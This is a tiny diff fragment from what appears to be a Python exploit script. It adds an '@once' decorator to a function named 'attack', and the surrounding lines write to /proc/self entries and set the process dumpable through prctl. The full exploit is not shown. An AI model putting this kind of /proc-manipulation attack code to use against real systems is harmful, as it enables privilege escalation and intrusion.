@@ -24,6 +24,7 @@ def write(name, value):
     os.write(os.open(f"/proc/self/{name}", os.O_WRONLY), value)
 
 
+@once
 def attack():
     works(system, "prctl", 4, 1, 0, 0, 0)  # dumpable, or our files in /proc are root's
     return [
